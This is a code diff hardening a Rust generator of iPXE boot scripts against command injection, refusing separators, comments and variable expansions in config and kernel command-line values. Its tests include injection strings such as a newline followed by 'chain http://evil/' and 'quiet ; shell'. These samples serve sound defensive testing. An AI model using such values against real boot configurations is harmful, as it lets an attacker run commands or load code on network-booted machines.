@@ -89,7 +89,7 @@ impl Script {
 
 /// Why a value cannot go into the script.
 #[derive(Debug, thiserror::Error, PartialEq, Eq)]
-#[error("{what} {value:?} cannot go into an iPXE script: use printable characters without spaces")]
+#[error("{what} {value:?} cannot go into an iPXE script (iPXE has no quoting): use printable characters, no ${{…}}, no word ';', '||', '&&' or one starting with '#'{}", if *what == "--cmdline" { "" } else { ", no spaces" })]
 pub struct ScriptError {
     what: &'static str,
     value: String,
@@ -108,7 +108,9 @@ impl Script {
                 ("--config", &f.config, false),
                 ("--cmdline", &f.cmdline, true),
             ] {
-                if v.chars().any(|c| c.is_control() || (c == ' ' && !spaces)) {
+                // iPXE has no quoting: `set` takes the words of the rest of the line, and the
+                // kernel line reads them again after expanding them.
+                if v.chars().any(|c| c == ' ' && !spaces) || crate::render::check_ipxe(v).is_err() {
                     return Err(ScriptError {
                         what,
                         value: v.clone(),
@@ -558,6 +560,10 @@ mod tests {
         };
         assert!(fixed("quiet nomodeset", "k").check().is_ok());
         assert!(fixed("x\nchain http://evil/", "k").check().is_err());
+        // iPXE has no quoting: a word it reads as its own is refused.
+        for bad in ["quiet ; shell", "a || shell", "x=${net0/mac}", "quiet #"] {
+            assert!(fixed(bad, "k").check().is_err(), "{bad}");
+        }
         assert!(fixed("", "k k").check().is_err());
     }
 
